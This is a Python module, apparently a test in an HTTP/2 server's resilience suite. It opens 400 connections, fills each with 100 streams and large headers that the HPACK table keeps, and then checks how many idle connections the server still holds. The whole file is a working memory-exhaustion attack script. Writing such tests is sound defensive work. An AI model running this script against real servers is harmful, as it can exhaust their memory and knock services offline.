"""Idle HTTP/2 connections that had a hundred streams at once, and ten heads of 15 KB whose paths
HPACK remembers.

What `h2` keeps of them until a connection ends is eight times each what an idle
connection takes otherwise.
"""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"))
CONNECTIONS = 400
STREAMS, HEADS = 100, 10


def large(stream):
    fields = b"".join(frames.field(b"x-%d" % part, b"v" * 7600) for part in range(2))
    path = b"\x44" + frames.string(b"/small?%d" % stream)
    return frames.request(stream, b"\x82\x87" + path + b"\x01" + frames.string(b"localhost") + fields)


async def one(target):
    reader, writer = await target.http2(frames.opening() + frames.window_update(0, 1 << 24))
    writer.write(b"".join(
        frames.request(1 + 2 * number, frames.head(b"/small")) for number in range(STREAMS)))
    parser = frames.Parser()
    await frames.until_ended(reader, parser, STREAMS, resets=True)
    writer.write(b"".join(large(1 + 2 * number) for number in range(STREAMS, STREAMS + HEADS)))
    await frames.until_ended(reader, parser, HEADS, resets=True)
    return reader, writer


async def run(target):
    opened = await target.many(CONNECTIONS, lambda _: one(target))
    await target.wait()
    return f"{len(opened)} connections that had much, {still_open(opened)} stayed"
